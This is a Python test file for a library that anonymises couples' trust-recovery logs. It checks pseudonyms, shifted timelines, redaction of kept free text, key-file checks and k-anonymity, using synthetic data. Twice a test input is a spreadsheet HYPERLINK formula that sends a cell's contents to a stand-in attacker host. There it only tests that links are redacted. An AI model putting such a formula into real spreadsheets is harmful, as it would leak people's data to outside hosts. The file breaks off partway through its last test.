"""Tests of trustdata.anonymize: pseudonyms, shifted timelines, no leaks in the output bytes."""

from __future__ import annotations

import random
import re
import warnings
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trustdata import schemas
from trustdata.anonymize import (
    NEUTRAL_START,
    REPORT_FILE,
    KAnonymityWarning,
    KeyFileWarning,
    anonymize,
    load_key,
    write_anonymized,
)
from trustdata.cli import main
from trustdata.errors import TrustDataError
from trustdata.io import load, write
from trustdata.logs import Logs, as_table

KEY = b"test key 0123456789abcdef"
STRONG_KEY = "3f9c1e8a0b7d2c4e5a6f8b9d0c1e2f3a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e"
OTHER_KEY = b"another key 9876543210fedcba"

COUPLES = ["couple-smith-7781", "couple-okafor-1342", "couple-lindqvist-5521"]
PARTNERS = ["Annabelle", "Bartholomew"]
TEXTS = {
    "increased_trust": "Showed me his phone at Lakeside Cafe",
    "decreased_trust": "Came home late from Brookfield office",
    "need": "Call Dr Moreau on Tuesdays",
    "note": "Saw Veronique at the Riverside gym",
}


def _logs(seed: int = 0) -> Logs:
    rng = random.Random(seed)
    checkins, triggers, events = [], [], []
    for i, couple in enumerate(COUPLES):
        start = pd.Timestamp("2024-02-14") + pd.Timedelta(days=37 * i)
        events.append(
            {"couple_id": couple, "date": start, "kind": "discovery", "note": TEXTS["note"]}
        )
        events.append(
            {
                "couple_id": couple,
                "date": start + pd.Timedelta(days=45),
                "kind": "couples_therapy",
                "partner": PARTNERS[0],
                "note": TEXTS["note"],
            }
        )
        for p, partner in enumerate(PARTNERS):
            for w in range(6):
                date = start + pd.Timedelta(days=7 * w + 3 + p)
                checkins.append(
                    {
                        "couple_id": couple,
                        "partner": partner,
                        "role": ("hurt", "involved")[p],
                        "date": date,
                        "connection": rng.randint(1, 10),
                        "trust": rng.randint(1, 10),
                        **{c: TEXTS[c] for c in schemas.CHECKIN_TEXT_COLUMNS},
                        "entered_at": f"{date:%d/%m/%Y} 21:14",
                    }
                )
            for t in range(3):
                triggers.append(
                    {
                        "couple_id": couple,
                        "partner": partner,
                        "timestamp": start + pd.Timedelta(days=5 * t + p, hours=8 + t, minutes=17),
                        "utc_offset_minutes": 60 if t < 2 else 120,
                        "time_known": t != 1,
                        "category": "location",
                        "intensity": rng.randint(1, 10),
                        "used_plan": t == 0,
                        "minutes": 12.5,
                        "note": TEXTS["note"],
                    }
                )
    triggers = pd.DataFrame(triggers)
    triggers.loc[~triggers["time_known"], "timestamp"] = triggers["timestamp"].dt.normalize()
    couples = pd.DataFrame(
        {
            "couple_id": COUPLES,
            "group": ["therapy", "therapy", "waitlist"],
            "site": ["north", "north", "south"],
            "wedding": ["2011-06-18", "2015-09-05", "2009-05-30"],
            "story": ["Met in Lisbon", "Met at church", "Met online"],
        }
    )
    return Logs(
        checkins=as_table("checkins", checkins),
        triggers=as_table("triggers", triggers),
        events=as_table("events", events),
        couples=as_table("couples", couples),
    )


def _date_spellings(ts: pd.Timestamp) -> set[str]:
    return {
        f"{ts:%Y-%m-%d}",
        f"{ts:%Y%m%d}",
        f"{ts:%Y/%m/%d}",
        f"{ts:%d/%m/%Y}",
        f"{ts:%m/%d/%Y}",
        f"{ts:%d.%m.%Y}",
    }


def _original_strings(logs: Logs) -> set[str]:
    found = set(COUPLES) | set(PARTNERS) | set(TEXTS.values())
    found |= {"Lisbon", "church", "2011-06-18", "Lakeside", "Veronique"}
    dates = pd.concat(
        [logs.checkins["date"], logs.events["date"], logs.triggers["timestamp"]]
    ).dt.normalize()
    for ts in dates.unique():
        found |= _date_spellings(pd.Timestamp(ts))
    return found


def _anonymize(logs: Logs, key: bytes = KEY, **kwargs) -> tuple[Logs, object]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", KAnonymityWarning)
        return anonymize(logs, key=key, quasi_identifiers=("group",), k=1, **kwargs)


def _write(logs: Logs, folder: Path, key: bytes = KEY, fmt: str = "csv") -> Path:
    anon, report = _anonymize(logs, key)
    write_anonymized(anon, folder, report=report, format=fmt)
    return folder


def _all_bytes(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_no_original_id_date_or_text_survives_in_any_output_byte(tmp_path, fmt):
    logs = _logs()
    files = _all_bytes(_write(logs, tmp_path / "out", fmt=fmt))
    assert {f"{t}.{fmt}" for t in schemas.TABLES} | {REPORT_FILE} == set(files)
    needles = _original_strings(logs)
    for name, data in files.items():
        for needle in needles:
            assert needle.encode() not in data, f"{needle!r} leaked into {name}"
            assert needle not in name


def test_timeline_is_shifted_by_keyed_days_keeping_every_interval():
    logs = _logs()
    anon, _ = _anonymize(logs)
    for cid in COUPLES:
        # an export of one couple gives it the same pseudonym and shift as the cohort's export
        alone, _ = _anonymize(logs.couple(cid))
        (pseudo,) = alone.couple_ids
        before, after = _times(logs, cid), _times(anon, pseudo)
        assert [t - before[0] for t in before] == [t - after[0] for t in after]  # to the minute
        assert _times(alone, pseudo) == after
        assert NEUTRAL_START <= after[0].normalize() < NEUTRAL_START + pd.Timedelta(days=365)


def test_a_trigger_on_a_known_day_does_not_pin_weekday_or_start():
    """Issue 13 point 6: with whole-week shifts, a trigger assumed on 25 December kept its
    weekday, which (with the start week) pinned the real year and start date.  Thirty couples
    with the same real calendar now get thirty unrelated shifted starts and weekdays."""
    rows, trig = [], []
    ids = [f"couple-{i:03d}" for i in range(30)]
    for cid in ids:
        rows.append({"couple_id": cid, "partner": "A", "date": "2024-12-02", "connection": 5})
        trig.append({"couple_id": cid, "partner": "A", "timestamp": "2024-12-25 09:00",
                     "category": "date_or_anniversary", "intensity": 8})  # fmt: skip
    logs = Logs(checkins=as_table("checkins", rows), triggers=as_table("triggers", trig))
    anon, _ = anonymize(logs, key=KEY, k=1)
    starts = anon.checkins.groupby("couple_id")["date"].min()
    christmas = anon.triggers.groupby("couple_id")["timestamp"].min()
    assert starts.nunique() >= 25
    assert christmas.dt.day_of_week.nunique() >= 6  # 2024-12-25 was a Wednesday for everyone
    assert ((christmas - starts).dt.days == 23).all()  # the interval is kept
    assert (starts >= NEUTRAL_START).all()
    assert (starts < NEUTRAL_START + pd.Timedelta(days=365)).all()


def _times(lg: Logs, cid: str) -> list[pd.Timestamp]:
    sel = lambda f: f.loc[f["couple_id"] == cid]  # noqa: E731
    ts = pd.concat(
        [sel(lg.checkins)["date"], sel(lg.events)["date"], sel(lg.triggers)["timestamp"]]
    )
    return sorted(pd.Timestamp(t) for t in ts)


def test_same_key_gives_byte_identical_output_whatever_the_input_order(tmp_path):
    logs = _logs()
    shuffled = replace(
        logs,
        checkins=logs.checkins.sample(frac=1, random_state=3).reset_index(drop=True),
        triggers=logs.triggers.sample(frac=1, random_state=4).reset_index(drop=True),
        events=logs.events.iloc[::-1].reset_index(drop=True),
    )
    first = _all_bytes(_write(logs, tmp_path / "a"))
    second = _all_bytes(_write(shuffled, tmp_path / "b"))
    assert first == second


def test_pseudonyms_are_keyed_and_a_different_key_gives_unlinkable_ids():
    logs = _logs()
    a, _ = _anonymize(logs, KEY)
    b, _ = _anonymize(logs, OTHER_KEY)
    assert len(a.couple_ids) == len(COUPLES)
    assert set(a.couple_ids).isdisjoint(b.couple_ids)
    assert set(a.checkins["partner"]).isdisjoint(b.checkins["partner"])
    # partner pseudonyms are keyed with the couple: the same label differs across couples
    assert a.checkins["partner"].nunique() == len(COUPLES) * len(PARTNERS)
    # events carry the same partner pseudonym as check-ins
    assert set(a.events["partner"].dropna()) <= set(a.checkins["partner"])


def test_free_text_offsets_and_undeclared_columns_are_removed():
    logs = _logs()
    anon, report = _anonymize(logs)
    for table in ("checkins", "triggers", "events"):
        frame = getattr(anon, table)
        for col in schemas.TEXT_COLUMNS:
            if col in frame.columns:
                assert frame[col].isna().all()
    assert "entered_at" not in anon.checkins.columns
    assert anon.triggers["utc_offset_minutes"].isna().all()
    assert list(anon.couples.columns) == ["couple_id", "group"]
    text = " ".join(report.removed)
    assert "free text" in text and "utc_offset_minutes" in text
    assert "checkins: 1 column(s) the format does not know" in text
    assert "entered_at" not in text  # removed columns are counted, never named


def test_keep_text_keeps_the_answers():
    anon, _ = _anonymize(_logs(), keep_text=True)
    # but for the weekday, which would give the date shift modulo 7 (reader7 13)
    assert TEXTS["need"] == "Call Dr Moreau on Tuesdays"
    assert (anon.checkins["need"] == "Call Dr Moreau on [day]").all()


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_kept_text_loses_its_dates_and_the_couples_own_ids(tmp_path, fmt):
    logs = _logs()
    checkins = logs.checkins.copy()
    checkins["need"] = (
        "ANNABELLE and bartholomew of " + checkins["couple_id"] + " met on 14/02/2024, the end"
    )
    logs = replace(logs, checkins=checkins)
    anon, report = _anonymize(logs, keep_text=True)
    write_anonymized(anon, tmp_path / "out", report=report, format=fmt)
    data = b"".join(_all_bytes(tmp_path / "out").values())
    for original in [*COUPLES, *PARTNERS, "ANNABELLE", "bartholomew", "14/02/2024"]:
        assert original.encode() not in data
    row = anon.checkins.iloc[0]
    m = re.fullmatch(r"(p\w{8}) and (p\w{8}) of (c\w{16}) met on \[date\], the end", row["need"])
    assert m is not None, row["need"]
    own = anon.checkins.loc[anon.checkins["couple_id"] == row["couple_id"], "partner"]
    assert {m[1], m[2]} == set(own) and m[3] == row["couple_id"]
    assert (
        # 36 check-ins, each with one date and three ids (two partners' and the couple's)
        "checkins: inside the kept free text of 36 cells, replaced: 36 dates (by [date]), "
        "108 ids (by their pseudonyms)"
    ) in report.to_markdown()


def test_kept_text_replaces_ids_as_whole_words_only():
    logs = Logs(
        checkins=as_table(
            "checkins",
            [{"couple_id": "c1", "partner": "Ann", "date": "2025-01-06", "connection": 5,
              "need": "Annual leave for ann, 2025-01-06"}],
        )
    )  # fmt: skip
    anon, _ = anonymize(logs, key=KEY, keep_text=True, k=1)
    row = anon.checkins.iloc[0]
    assert row["need"] == f"Annual leave for {row['partner']}, [date]"


def test_kept_text_replaces_a_non_ascii_name_in_every_case():
    logs = Logs(
        checkins=as_table(
            "checkins",
            [{"couple_id": "c1", "partner": "İlker", "date": "2025-01-06", "connection": 5,
              "need": "İlker, İLKER, i̇lker"}],
        )
    )  # fmt: skip
    anon, _ = anonymize(logs, key=KEY, keep_text=True, k=1)
    p = anon.checkins["partner"].iloc[0]
    assert anon.checkins["need"].iloc[0] == f"{p}, {p}, {p}"
    named = replace(logs, checkins=logs.checkins.assign(İlker_mood="ok"))
    _, report = anonymize(named, key=KEY, k=1)
    assert "İlker" not in report.to_markdown()


def test_k_anonymity_warns_for_each_small_combination():
    logs = _logs()
    with pytest.warns(KAnonymityWarning) as record:
        _, report = anonymize(logs, key=KEY, quasi_identifiers=("group", "site"), k=2)
    assert len(record) == 1 and "group=waitlist, site=south" in str(record[0].message)
    assert report.small_groups[["group", "site", "n_couples"]].to_dict("records") == [
        {"group": "waitlist", "site": "south", "n_couples": 1}
    ]
    assert not report.k_anonymous
    assert "group=waitlist, site=south: 1 couple(s)" in report.to_markdown()


def test_a_kept_column_holding_dates_is_refused():
    with pytest.raises(TrustDataError, match="'wedding' of the couples table holds dates"):
        anonymize(_logs(), key=KEY, quasi_identifiers=("wedding",), k=1)


def _with_extra(logs: Logs, **columns: list) -> Logs:
    checkins = logs.checkins.copy()
    for name, values in columns.items():
        checkins[name] = (values * len(checkins))[: len(checkins)]
    return replace(logs, checkins=checkins)


def test_a_dropped_column_named_after_a_partner_or_couple_is_not_named_in_the_report():
    logs = _with_extra(
        _logs(), annabelle_mood=["ok"], **{"couple-smith-7781_extra": ["x"], "mood_20240214": ["y"]}
    )
    _, report = _anonymize(logs)
    text = report.to_markdown()
    assert "annabelle" not in text.lower() and "7781" not in text and "20240214" not in text
    assert "checkins: 4 column(s) the format does not know" in text


def test_a_removed_column_with_an_address_in_its_name_is_not_named(tmp_path, capsys):
    """Issue 13 point 3: a column named ``notes for name@example.com`` appeared verbatim."""
    logs = _with_extra(_logs(), **{"notes for name@example.com": ["x"], "Kiki's diary": ["y"]})
    _, report = _anonymize(logs)
    assert "example.com" not in report.to_markdown() and "Kiki" not in report.to_markdown()
    write(logs, tmp_path / "in", format="csv")
    key = tmp_path / "k.key"
    key.write_text(STRONG_KEY)
    key.chmod(0o600)
    code = main(["anonymize", str(tmp_path / "in"), str(tmp_path / "out"), "--key-file",
                 str(key), "-k", "1"])  # fmt: skip
    captured = capsys.readouterr()
    assert code == 0, captured.err
    assert "example.com" not in captured.out + captured.err
    assert b"example.com" not in b"".join(_all_bytes(tmp_path / "out").values())


@pytest.mark.parametrize(
    ("column", "values", "match"),
    [
        ("mood_2024-02-14", ["ok"], "has a name that holds a date, an e-mail address or an"),
        ("annabelle_mood", ["ok"], "has a name that holds a date, an e-mail address or an"),
        ("to_a@b.org", ["ok"], "has a name that holds a date, an e-mail address or an"),
        ("contact", ["ann@example.org"], "'contact' of the checkins table holds e-mail"),
        ("seen_iso", ["2024-2-14"], "'seen_iso' of the checkins table holds dates"),
        ("seen_us", ["2/14/24"], "'seen_us' of the checkins table holds dates"),
        ("who", ["Bartholomew", "other"], "'who' of the checkins table holds original ids"),
        ("ref", ["see COUPLE-SMITH-7781"], "'ref' of the checkins table holds original ids"),
        ("seen", ["14.02.2024"], "'seen' of the checkins table holds dates"),
        ("seen_ymd", [20240214], "'seen_ymd' of the checkins table holds dates"),
    ],
)
def test_a_kept_column_whose_name_or_values_hold_a_date_or_an_id_is_refused(column, values, match):
    logs = _with_extra(_logs(), **{column: values})
    with pytest.raises(TrustDataError, match=re.escape(match)):
        _anonymize(logs, keep_columns=(column,))


def test_a_kept_number_column_holding_numeric_couple_ids_is_refused():
    rows = [{"couple_id": cid, "partner": "A", "date": "2025-01-06", "connection": 5,
             "file_no": int(cid), "score_x": 7} for cid in ("4217", "5530")]  # fmt: skip
    logs = Logs(checkins=as_table("checkins", rows))
    with pytest.raises(TrustDataError, match="'file_no' of the checkins table holds original ids"):
        anonymize(logs, key=KEY, keep_columns=("file_no",), k=1)
    anon, _ = anonymize(logs, key=KEY, keep_columns=("score_x",), k=1)  # 7: too short an id
    assert anon.checkins["score_x"].tolist() == [7, 7]


def test_unused_categories_of_kept_columns_do_not_leave_in_parquet(tmp_path):
    logs = _logs()
    secret = ["couple-smith-7781 pilot", "2024-02-14"]
    couples = logs.couples.assign(
        group=pd.Categorical(logs.couples["group"], categories=["therapy", "waitlist", *secret])
    )
    checkins = logs.checkins.assign(
        device=pd.Categorical(["phone"] * len(logs.checkins), categories=["phone", *secret])
    )
    logs = replace(logs, couples=couples, checkins=checkins)
    anon, report = _anonymize(logs, keep_columns=("device",))
    write_anonymized(anon, tmp_path / "out", report=report, format="parquet")
    data = b"".join(_all_bytes(tmp_path / "out").values())
    assert b"7781" not in data and b"2024-02-14" not in data
    assert list(anon.couples["group"].cat.categories) == ["therapy", "waitlist"]


def test_a_kept_label_column_without_ids_or_dates_is_kept():
    logs = _with_extra(_logs(), device=["phone", "web"])
    anon, _ = _anonymize(logs, keep_columns=("device",))
    assert set(anon.checkins["device"]) == {"phone", "web"}


def test_an_unknown_quasi_identifier_is_a_value_error():
    with pytest.raises(ValueError, match=r"\['cohort'\] is not there"):
        anonymize(_logs(), key=KEY, quasi_identifiers=("cohort",))


@pytest.mark.parametrize("content", [b"", b"short\n", b"   fifteen bytes   "])
def test_a_short_key_file_is_refused(tmp_path, content):
    path = tmp_path / "k.key"
    path.write_bytes(content)
    with pytest.raises(TrustDataError, match="expected at least 16"):
        load_key(path)


def test_a_missing_key_file_is_a_trustdata_error_naming_how_to_make_one(tmp_path):
    with pytest.raises(TrustDataError, match="does not exist; make one with"):
        load_key(tmp_path / "nope.key")
    with pytest.raises(TrustDataError, match="there is no default key"):
        load_key(None)


def test_key_file_whitespace_is_ignored(tmp_path):
    path = tmp_path / "k.key"
    path.write_text(f"  {STRONG_KEY}\n")
    path.chmod(0o600)
    assert load_key(path) == STRONG_KEY.encode()


def _key_file(tmp_path: Path, content: bytes | str, mode: int = 0o600) -> Path:
    path = tmp_path / "research.key"
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    path.chmod(mode)
    return path


@pytest.mark.parametrize(
    ("content", "match"),
    [
        (b"a" * 16, "a block of 1 byte"),
        (b"a" * 64, "a block of 1 byte"),
        (b"abcabcabcabcabcabc", "a block of 3 byte"),
        (b"0123456789abcdef", "bits of entropy"),
        (b"password12345678", "bits of entropy"),
        (b"abcdefghijklmnopqrstuvwxyz", "bits of entropy"),
    ],
)
def test_a_low_entropy_key_is_refused_with_a_sentence(tmp_path, content, match):
    with pytest.raises(TrustDataError, match=match):
        load_key(_key_file(tmp_path, content))
    with pytest.raises(ValueError, match="too weak"):
        anonymize(_logs(), key=content, k=1)


def test_the_public_demo_key_is_refused_outside_the_synthetic_sample(tmp_path, capsys):
    demo = (SAMPLE / "demo.key").read_bytes()
    with pytest.raises(TrustDataError, match="public demo key"):
        load_key(_key_file(tmp_path, demo))
    with pytest.raises(ValueError, match="public demo key"):
        anonymize(_logs(), key=demo.strip(), k=1)
    # recognised by its content, wherever it lies and whatever the whitespace around it
    write(_logs(), tmp_path / "in", format="csv")
    key = _key_file(tmp_path, b"\n" + demo.strip() + b"  \n")
    code = main(["anonymize", str(tmp_path / "in"), str(tmp_path / "out"), "--key-file",
                 str(key), "-k", "1"])  # fmt: skip
    assert code == 2 and "public demo key" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    assert load_key(_key_file(tmp_path, demo), synthetic=True) == demo.strip()


def test_a_readable_key_file_or_one_inside_the_data_folder_is_warned_about(tmp_path):
    with pytest.warns(KeyFileWarning, match="can be read by other users"):
        load_key(_key_file(tmp_path, STRONG_KEY, mode=0o644))
    (tmp_path / "data").mkdir()
    inside = tmp_path / "data" / "k.key"
    inside.write_text(STRONG_KEY)
    inside.chmod(0o600)
    with pytest.warns(KeyFileWarning, match="inside the data folder"):
        load_key(inside, data=tmp_path / "data")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        load_key(_key_file(tmp_path, STRONG_KEY), data=tmp_path / "data")


def test_cli_prints_key_warnings_as_one_line(tmp_path, capsys):
    write(_logs(), tmp_path / "in", format="csv")
    key = _key_file(tmp_path, STRONG_KEY, mode=0o644)
    code = main(["anonymize", str(tmp_path / "in"), str(tmp_path / "out"), "--key-file",
                 str(key), "-k", "1"])  # fmt: skip
    err = capsys.readouterr().err
    assert code == 0
    assert "warning:" in err and "chmod 600" in err and "Traceback" not in err


def test_a_key_file_that_is_a_folder_says_so(tmp_path):
    with pytest.raises(TrustDataError, match="is a folder"):
        load_key(tmp_path)


def test_k_anonymity_counts_only_couples_with_records():
    """Issue 13 point 4: four rows that exist only in couples.csv made one real couple pass k=5."""
    logs = Logs(
        checkins=as_table("checkins", [{"couple_id": "real", "partner": "A",
                                        "date": "2025-01-06", "connection": 5}]),
        couples=as_table("couples", pd.DataFrame({
            "couple_id": ["real", "pad1", "pad2", "pad3", "pad4"], "group": ["x"] * 5})),
    )  # fmt: skip
    with pytest.warns(KAnonymityWarning) as record:
        anon, report = anonymize(logs, key=KEY, quasi_identifiers=("group",), k=5)
    assert any("Only 1 couple(s) have group=x" in str(w.message) for w in record)
    assert not report.k_anonymous and report.n_couples == 1
    assert len(anon.couples) == 1
    assert "4 row(s) of couples without any check-in" in report.to_markdown()


def test_a_quasi_identifier_holding_a_short_id_inside_a_word_is_kept():
    """Issue 13 point 21: "Island" was refused because partner "isl" is inside it."""
    logs = Logs(
        checkins=as_table("checkins", [{"couple_id": "c1", "partner": "isl",
                                        "date": "2025-01-06", "connection": 5}]),
        couples=as_table("couples", pd.DataFrame({"couple_id": ["c1"], "site": ["Island"]})),
    )  # fmt: skip
    anon, _ = anonymize(logs, key=KEY, quasi_identifiers=("site",), k=1)
    assert anon.couples["site"].tolist() == ["Island"]
    named = Logs(checkins=logs.checkins, couples=logs.couples.assign(site=["isl north"]))
    with pytest.raises(TrustDataError, match="holds original ids"):
        anonymize(named, key=KEY, quasi_identifiers=("site",), k=1)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("met on 2025-3-3 again", "met on [date] again"),
        ("since 3/3/25, calmer", "since [date], calmer"),
        ("on 3.3.2025 and 3.3.", "on [date] and [date]"),
        ("from 2025/03/03 to 20250310", "from [date] to [date]"),
        ("the 4th of July and March 3rd, 2025", "the [date] and [date]"),
        ("write to ann.lee+x@mail.example.org now", "write to [email] now"),
        ("see https://example.org/ann?x=1 or www.x.org", "see [link] or [link]"),
        # reader7 12: the address ends at a quote, the rest of the cell stays
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '=HYPERLINK("[link]?"&A1,"click")'),
        ("(see https://a.example/x), then www.b.example.", "(see [link]), then [link]."),
        # reader7 13: weekday names and days in words undo the shift
        ("Sam said Tuesday 2pm; the 12th; twelfth of March", "Sam said [day] 2pm; [date]; [date]"),
        ("March the twelfth, the twenty-first of June", "[date], [date]"),
        ("Mondays, Sat. and FRIDAY's talk", "[day], [day] and [day] talk"),
        ("we sat down, wed in May, for the 3rd time", "we sat down, wed in May, for the 3rd time"),
        ("call +44 20 7946 0958", "call [number]"),
        ("slept 1.5 hours, score 3.5", "slept 1.5 hours, score 3.5"),
    ],
)
def test_kept_text_loses_numeric_dates_addresses_and_numbers(text, expected):
    """Issue 13 point 7: 2025-3-3, 3/3/25 and e-mail addresses stayed in kept text."""
    logs = Logs(checkins=as_table("checkins", [{"couple_id": "c1", "partner": "A",
                "date": "2025-01-06", "connection": 5, "need": text}]))  # fmt: skip
    anon, _ = anonymize(logs, key=KEY, keep_text=True, k=1)
    assert anon.checkins["need"].iloc[0] == expected


def test_the_report_names_what_the_kept_text_lost(tmp_path):
    """reader7 12: a web address was reported as "dates and ids ... (replaced by [date] ...)"."""
    logs = Logs(checkins=as_table("checkins", [
        {"couple_id": "c1", "partner": "A", "date": "2025-01-06", "connection": 5,
         "need": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
        {"couple_id": "c1", "partner": "A", "date": "2025-01-13", "connection": 5,
         "need": "Tuesday, mail me at a@b.example"}]))  # fmt: skip
    anon, report = anonymize(logs, key=KEY, keep_text=True, k=1)
    text = report.to_markdown()
    assert (
        "checkins: inside the kept free text of 2 cells, replaced: 1 e-mail address (by "
        "[email]), 1 web address (by [link]), 1 weekday name (by [day])"
    ) in text
    assert "dates and ids" not in text
    assert anon.checkins["need"].tolist() == [
        '=HYPERLINK("[link]?"&A1,"click")',
        "[day], mail me at [email]",
    ]


def test_the_report_counts_cells_whose_only_change_is_an_id():
    """reader14 A1: a cell whose only kept-text change was an id went uncounted (the id pass
    wrote into the frame it was compared with), so a table whose notes lost only ids had no
    line in the report at all, and the researcher read its text as untouched."""
    logs = Logs(
        checkins=as_table("checkins", [
            {"couple_id": "smith", "partner": "Sarah", "date": "2025-03-12", "connection": 4,
             "need": "time with Mike"},
            {"couple_id": "smith", "partner": "Mike", "date": "2025-03-12", "connection": 4,
             "need": "more"}]),
        triggers=as_table("triggers", [
            {"couple_id": "smith", "partner": "Sarah", "timestamp": "2025-03-13 09:00",
             "category": "other", "intensity": 5, "note": "saw the smith family"}]),
    )  # fmt: skip
    anon, report = anonymize(logs, key=KEY, keep_text=True, k=1)
    mike = anon.checkins.loc[anon.checkins["need"] != "more", "need"].iloc[0]
    assert mike.startswith("time with p") and "Mike" not in mike
    assert "smith" not in anon.triggers["note"].iloc[0]
    assert report.removed == (
        "checkins: inside the kept free text of 1 cell, replaced: 1 id (by its pseudonym)",
        "triggers: inside the kept free text of 1 cell, replaced: 1 id (by its pseudonym)",
    )


def test_a_diary_note_beside_the_check_ins_is_free_text(tmp_path):
    """reader14 A2: the check-ins' ``note`` (where the Daylio and Bearable importers put the
    diary text) was dropped as "a column the format does not know", with --keep-text too."""
    rows = [{"couple_id": "smith", "partner": "Sarah", "date": "2025-03-12", "connection": 4,
             "note": "a walk, Sarah, on 3 March"}]  # fmt: skip
    logs = Logs(checkins=as_table("checkins", rows))
    assert "note" in logs.checkins.columns
    kept, report = anonymize(logs, key=KEY, keep_text=True, k=1)
    row = kept.checkins.iloc[0]
    assert row["note"] == f"a walk, {row['partner']}, on [date]"
    assert report.removed == (
        "checkins: inside the kept free text of 1 cell, replaced: 1 date (by [date]), "
        "1 id (by its pseudonym)",
    )
    gone, report = anonymize(logs, key=KEY, k=1)
    assert gone.checkins["note"].isna().all()
    assert report.removed == ("checkins: free text (note)",)


def test_an_interrupted_export_leaves_no_partial_folder(tmp_path, monkeypatch):
    """Issue 13 point 11: Ctrl-C during anonymize left a partial export that validated."""
    import trustdata.io as io_module

    real = io_module.write
    calls = []

    def interrupted(logs, folder, **kw):
        real(Logs(checkins=logs.checkins), folder, **kw)
        calls.append(folder)
        raise KeyboardInterrupt

    monkeypatch.setattr(io_module, "write", interrupted)
    anon, report = _anonymize(_logs())
    with pytest.raises(KeyboardInterrupt):
        write_anonymized(anon, tmp_path / "out", report=report)
    assert calls and not (tmp_path / "out").exists()
    assert list(tmp_path.iterdir()) == []  # the staging folder is gone too


def test_cli_missing_key_file_exits_2_and_writes_nothing(tmp_path, capsys):
    out = tmp_path / "out"
    code = main(["anonymize", str(tmp_path), str(out), "--key-file", str(tmp_path / "none.key")])
    assert code == 2
    assert "key file does not exist" in capsys.readouterr().err
    assert not out.exists()


def test_writing_into_a_non_empty_folder_is_refused(tmp_path):
    (tmp_path / "x.txt").write_text("x")
    anon, _ = _anonymize(_logs())
    with pytest.raises(TrustDataError, match="not empty"):
        write_anonymized(anon, tmp_path)


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_output_is_a_log_folder_that_load_reads_back(tmp_path, fmt):
    anon, report = _anonymize(_logs())
    write_anonymized(anon, tmp_path / "out", report=report, format=fmt)
    back = load(tmp_path / "out")
    assert back.rejected.empty
    for table in schemas.TABLES:
        got = getattr(back, table)
        want = getattr(anon, table)
        cols = [c for c in want.columns if want[c].notna().any()]
        pd.testing.assert_frame_equal(
            got[cols].reset_index(drop=True), want[cols].reset_index(drop=True), check_dtype=False
        )


def test_cli_anonymizes_a_folder(tmp_path, capsys):
    logs = _logs()
    write(logs, tmp_path / "in", format="csv")
    key = _key_file(tmp_path, STRONG_KEY)
    out = tmp_path / "out"
    code = main(["anonymize", str(tmp_path / "in"), str(out), "--key-file", str(key),
                 "--quasi-identifiers", "group", "-k", "2"])  # fmt: skip
    captured = capsys.readouterr()
    assert code == 1  # the waitlist group has one couple
    assert "group=waitlist" in captured.err
    data = b"".join(_all_bytes(out).values())
    for needle in _original_strings(logs):
        assert needle.encode() not in data


def test_cli_names_a_missing_quasi_identifier_like_the_report(tmp_path, capsys):
    logs = _logs()
    couples = logs.couples.copy()
    couples.loc[couples["group"] == "waitlist", "group"] = pd.NA
    write(replace(logs, couples=couples), tmp_path / "in", format="csv")
    key = _key_file(tmp_path, STRONG_KEY)
    code = main(["anonymize", str(tmp_path / "in"), str(tmp_path / "out"), "--key-file",
                 str(key), "--quasi-identifiers", "group", "-k", "2"])  # fmt: skip
    assert code == 1
    assert "only 1 couple(s) with group=(missing) (k=2)" in capsys.readouterr().err
    assert "group=(missing): 1 couple(s)" in (tmp_path / "out" / REPORT_FILE).read_text()


SAMPLE = Path(__file__).resolve().parents[1] / "data" / "sample"


def test_the_committed_anonymized_sample_cohort_is_a_fresh_run_of_the_documented_command(tmp_path):
    """``data/sample/cohort_anonymized`` (Parquet, written by ``python -m trustdata.synth
    data/sample``) holds what ``trustdata anonymize`` makes of ``data/sample/cohort``.

    docs/research.md: trustdata anonymize data/sample/cohort data/sample/cohort_anonymized
    --key-file data/sample/demo.key --quasi-identifiers group,site --format parquet.  Parquet
    files carry the writer's library versions, so the two are compared as loaded (every table,
    column and dtype) and the report byte for byte.
    """
    out = tmp_path / "anon"
    code = main(
        ["anonymize", str(SAMPLE / "cohort"), str(out), "--key-file", str(SAMPLE / "demo.key"),
         "--quasi-identifiers", "group,site", "--format", "parquet"]
    )  # fmt: skip
    assert code == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [REPORT_FILE] + [f"{t}.parquet" for t in schemas.TABLES]
    )
    committed = SAMPLE / "cohort_anonymized"
    assert sorted(p.name for p in committed.iterdir()) == sorted(
        [REPORT_FILE] + [f"{t}.parquet" for t in schemas.TABLES]
    )
    fresh, kept = load(out), load(committed)
    assert kept.rejected.empty
    for table in schemas.TABLES:
        pd.testing.assert_frame_equal(getattr(fresh, table), getattr(kept, table), obj=table)
    assert (out / REPORT_FILE).read_bytes() == (committed / REPORT_FILE).read_bytes()
    assert b"DEMO-KEY" in (SAMPLE / "demo.key").read_bytes()  # clearly labelled as a demo key


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    ids=st.lists(st.from_regex(r"[a-z]{3}-[0-9]{4}-[a-z]{3}", fullmatch=True), min_size=1,
                 max_size=4, unique=True),
    days=st.lists(st.integers(0, 7000), min_size=1, max_size=6),
    minutes=st.integers(0, 24 * 60 - 1),
)  # fmt: skip
def test_no_random_id_or_date_leaks_and_intervals_hold(tmp_path_factory, ids, days, minutes):
    base = pd.Timestamp("2010-01-01")
    checkins = [
        {"couple_id": cid, "partner": f"{cid}-partner", "date": base + pd.Timedelta(days=d),
         "connection": 5}
        for cid in ids for d in sorted(set(days))
    ]  # fmt: skip
    triggers = [
        {"couple_id": cid, "partner": f"{cid}-partner", "category": "media", "intensity": 3,
         "timestamp": base + pd.Timedelta(days=days[0], minutes=minutes), "time_known": True}
        for cid in ids
    ]  # fmt: skip
